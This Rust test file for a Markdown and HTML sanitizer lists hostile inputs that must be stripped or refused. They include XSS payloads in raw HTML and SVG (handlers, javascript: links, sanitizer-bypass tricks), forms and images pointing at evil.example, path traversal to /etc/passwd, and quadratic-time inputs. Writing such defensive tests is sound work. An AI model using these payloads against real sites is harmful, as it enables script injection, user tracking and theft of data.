//! Hostile texts and drawings: Markdown, raw HTML and SVG that run, load or block.

use super::attack::{Attack, Attacks, HTML, NOTHING, check};

/// A body that runs nothing, and of which these texts are in no page.
macro_rules! bodies {
    ($settings:expr; $(what: $what:literal => $body:literal, $nowhere:expr;)*) => {
        &[$(Attack {
            what: $what,
            files: &[
                ("content/tin/a.md", concat!("{summary: x}", $body)),
                ("content/tin/b.svg", "<svg/>"),
            ],
            settings: $settings,
            nowhere: $nowhere,
            ..NOTHING
        },)*]
    };
}

/// A body that is refused.
macro_rules! refused {
    ($settings:expr; $(what: $what:literal => $body:literal, $codes:expr;)*) => {
        &[$(Attack {
            what: $what,
            files: &[("content/tin/a.md", concat!("{}", $body)), ("content/tin/b.svg", "<svg/>")],
            settings: $settings,
            refused: $codes,
            ..NOTHING
        },)*]
    };
}

/// A drawing that loses this text.
macro_rules! drawings {
    ($(what: $what:literal => $drawing:literal;)*) => {
        &[$(Attack {
            what: $what,
            files: &[("content/tin/a.md", "{}![Hình](a.svg)"), ("content/tin/a.svg", $drawing)],
            there: &["tin/a.svg"],
            nowhere: &["EVIL"],
            ..NOTHING
        },)*]
    };
}

const ATTACKS: &[Attacks] = &[
    Attacks {
        held: "Drawings (SVG) lose whatever runs or loads.",
        cases: drawings! {
            what: "a script" => "<svg xmlns='http://www.w3.org/2000/svg'><script>EVIL</script></svg>";
            what: "a script under another prefix" => "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/2000/svg'><x:script>EVIL</x:script></svg>";
            what: "a handler" => "<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL'/>";
            what: "a link that runs" => "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:EVIL'><text>x</text></a></svg>";
            what: "foreign content" => "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='EVIL'/></foreignObject></svg>";
            what: "an animation that changes a link" => "<svg xmlns='http://www.w3.org/2000/svg'><a href='#x'><animate attributeName='href' to='javascript:EVIL'/></a></svg>";
            what: "an entity" => "<!DOCTYPE svg [<!ENTITY x \"<script>EVIL</script>\">]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>";
            what: "a style sheet of another host" => "<?xml-stylesheet href='https://EVIL.example/'?><svg xmlns='http://www.w3.org/2000/svg'/>";
            what: "a picture of another host" => "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://EVIL.example/x.png'/><style>@import 'https://EVIL.example/'; a { b: url(//EVIL.example) }</style></svg>";
            what: "a style sheet in pieces" => "<svg xmlns='http://www.w3.org/2000/svg'><style>a { b: u&#114;l(//EVIL.example) } @im<!-- -->port 'https://EVIL.example/';</style></svg>";
            what: "attributes and declarations that are none" => "<?xml version='1.0' <EVIL?><svg xmlns='http://www.w3.org/2000/svg' a<EVIL='x'/>";
            what: "a drawing within data" => "<svg xmlns='http://www.w3.org/2000/svg'><use href='data:image/svg+xml,EVIL'/></svg>";
        },
    },
    Attacks {
        held: "No script and no form of another host gets from raw HTML into a page.",
        cases: bodies! { HTML;
            what: "a script" => "<script>EVIL</script>", &["EVIL"];
            what: "a script in capitals and without an end" => "a\n\n<SCRIPT SRC=//evil.example>EVIL", &["EVIL", "evil.example"];
            what: "a handler" => "<img src=b.svg onerror=EVIL alt=x>\n\n<b onclick='EVIL'>x</b>\n\n<details open ontoggle=EVIL>x</details>", &["EVIL"];
            what: "a frame" => "<iframe srcdoc='<script>EVIL</script>'></iframe> <object data=EVIL></object> <embed src=EVIL>", &["EVIL"];
            what: "a form" => "<form action='https://evil.example'><input name=EVIL><button formaction=EVIL>x</button></form>", &["EVIL", "evil.example"];
            what: "a base" => "<base href='https://evil.example'><meta http-equiv=refresh content='0;EVIL'><link rel=stylesheet href=EVIL>", &["EVIL", "evil.example"];
            what: "a style" => "<style>EVIL</style><p style='background:url(EVIL)'>x</p>", &["EVIL"];
            what: "a drawing" => "<svg><a xlink:href='javascript:EVIL'><text>x</text></a><script>EVIL</script></svg>", &["EVIL"];
            what: "a formula that changes how text is read" => "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=EVIL&gt;\">", &["onerror=EVIL"];
            what: "a text that ends early" => "<noscript><p title=\"</noscript><img src=b.svg onerror=EVIL>\"></noscript>", &["onerror"];
            what: "a title" => "<title><a id='</title><img src=b.svg onerror=EVIL>'></title> <textarea><img src=b.svg onerror=EVIL></textarea>", &["onerror"];
            what: "a comment that ends otherwise" => "<!--><img src=b.svg onerror=EVIL>-->\n\n<!-- --!><img src=b.svg onerror=EVIL> -->", &["onerror"];
            what: "an attribute that ends early" => "<p title='\"><script>EVIL</script>'>x</p>", &["<script>EVIL"];
            what: "a cut tag" => "<p title=\"\n\n# Đề mục\n\n[x](https://a.example \"><img src=b.svg onerror=EVIL>\")", &["<img src=b.svg onerror"];
            what: "a template" => "<template><script>EVIL</script></template><xmp><script>EVIL</script></xmp>", &["EVIL"];
            what: "an end of the page" => "</div></main></body></html><script>EVIL</script>", &["EVIL"];
            what: "the place of what is sought" => "<div class='site-header skip'>x</div><p class=printed>x</p>", &["class=\"site-header skip\""];
            what: "references to characters that mark raw HTML within the program" => "<b title='&#xfdd0;&#xfdd1;' onclick=EVIL>&#xfdd0;x</b>&#xfdd1;<i onclick=EVIL>x</i> &#xfdd0;", &["EVIL", "\u{fdd0}", "\u{fdd1}"];
        },
    },
    Attacks {
        held: "Addresses that run something, also in raw HTML and in any spelling, are refused.",
        cases: refused! { HTML;
            what: "a link" => "[x](javascript:EVIL)", &["unsafe-scheme"];
            what: "a link in capitals" => "[x](JaVaScRiPt:EVIL)", &["unsafe-scheme"];
            what: "a link with references" => "[x](&#106;avascript&#58;EVIL)", &["unsafe-scheme"];
            what: "a link by reference" => "[x][y]\n\n[y]: javascript:EVIL", &["unsafe-scheme"];
            what: "data" => "[x](data:text/html;base64,EVIL)", &["unsafe-scheme"];
            what: "a picture" => "![x](vbscript:EVIL)", &["unsafe-scheme"];
            what: "a link in raw HTML" => "<a href='java\tscript:EVIL'>x</a>", &["unsafe-scheme"];
            what: "a link in raw HTML with references" => "<a href='&#x6a;avascript&colon;EVIL'>x</a>", &["unsafe-scheme"];
            what: "a quotation" => "<q cite='javascript:EVIL'>x</q> <del cite='javascript:EVIL'>x</del>", &["unsafe-scheme", "unsafe-scheme"];
            what: "a block of quotation" => "<blockquote cite=\"javascript:EVIL\">x</blockquote>", &["unsafe-scheme"];
            what: "a choice of pictures" => "<img alt=x src=b.svg srcset='b.svg 1x, javascript:EVIL 2x'>", &["unsafe-scheme"];
        },
    },
    Attacks {
        held: "Paths lead nowhere but into the content, also in raw HTML.",
        cases: refused! { HTML;
            what: "a link" => "[x](../../../etc/passwd)", &["unsafe-path"];
            what: "an encoded link" => "[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)", &["unsafe-path"];
            what: "a picture in raw HTML" => "<img alt=x src='../../../etc/a.png'>", &["unsafe-path"];
            what: "a link in raw HTML" => "<a href='..\\..\\..\\x'>x</a>", &["unsafe-path"];
            what: "characters that mark raw HTML within the program" => "\u{fdd0}<b onclick=EVIL>\u{fdd1}x</b>", &["control-character"];
            what: "a drive of Windows" => "[x](C:/Windows/a.png)", &["unsafe-scheme"];
        },
    },
    Attacks {
        held: "Pictures of other hosts, which would see who reads a page, are refused unless the settings allow the host.",
        cases: refused! { HTML;
            what: "a picture" => "![x](https://evil.example/t.png)", &["remote-picture"];
            what: "a picture without a scheme" => "![x](//evil.example/t.png)", &["remote-picture"];
            what: "a picture with backslashes" => "![x](<\\\\\\\\evil.example/t.png>)", &["remote-picture"];
            what: "a picture in raw HTML" => "<img alt=x src=//evil.example/t.png>", &["remote-picture"];
            what: "a choice of pictures" => "<img alt=x src=b.svg srcset='//evil.example/t.png 2x'>", &["remote-picture"];
            what: "a choice behind a comma that is a reference" => "<img alt=x src=b.svg srcset='b.svg 1x&#44; https://evil.example/t.png 2x'>", &["remote-picture"];
            what: "a picture behind a script that ends in a comment" => "a <script> <!-- </script> --> <img alt=x src=//evil.example/t.png> </script>", &["remote-picture"];
            what: "a picture behind elements within a script" => "<div><object><script><object></script></object><img alt=x src=//evil.example/t.png></object></div>", &["remote-picture"];
            what: "a picture between notes" => "[^1]: <svg>\n\n<img alt=x src=//evil.example/t.png>[^1]\n\n[^2]: </svg>", &["remote-picture"];
            what: "a picture over several lines" => "<figure>\n<img\nsrc=//evil.example/t.png\nalt=x>\n</figure>", &["remote-picture"];
            what: "a host behind a backslash" => "![x](<https://b.example\\\\@evil.example/t.png>)", &["remote-picture"];
            what: "a host behind the name of a user" => "![x](https://b.example@evil.example/t.png)", &["remote-picture"];
        },
    },
    Attacks {
        held: "Texts that would take a time that grows with the square of their length do not.",
        cases: &[
            Attack {
                what: "openings of links",
                files: &[("content/tin/a.md", "{}@x](y @20000")],
                ..NOTHING
            },
            Attack {
                what: "openings of pictures",
                files: &[("content/tin/a.md", "{}@![a](@20000")],
                ..NOTHING
            },
            Attack {
                what: "tags that nothing closes",
                files: &[("content/tin/a.md", "{}@<div><b></x>@20000")],
                settings: HTML,
                refused: &["too-deep"],
                ..NOTHING
            },
            Attack {
                what: "tags that close across each other",
                files: &[("content/tin/a.md", "{}@<b><i></b></i>@10000")],
                settings: HTML,
                ..NOTHING
            },
            Attack {
                what: "attributes",
                files: &[("content/tin/a.md", "{}<b @a='b' @20000>x</b>")],
                settings: HTML,
                ..NOTHING
            },
            Attack {
                what: "words in an old encoding on one line",
                files: &[("content/tin/a.md", "{}@xÿz a^i @40000")],
                ..NOTHING
            },
            Attack {
                what: "links to one report",
                files: &[
                    ("content/tin/a.md", "{}@[x](b.md#muc) @5000"),
                    ("content/tin/b.md", "{}# Mục"),
                ],
                ..NOTHING
            },
            Attack {
                what: "headings",
                files: &[("content/tin/a.md", "{}@# Mục\n\n@3000[x](#muc-3000)")],
                ..NOTHING
            },
        ],
    },
];

#[test]
fn hostile_texts_run_and_load_nothing() {
    check(ATTACKS);
}
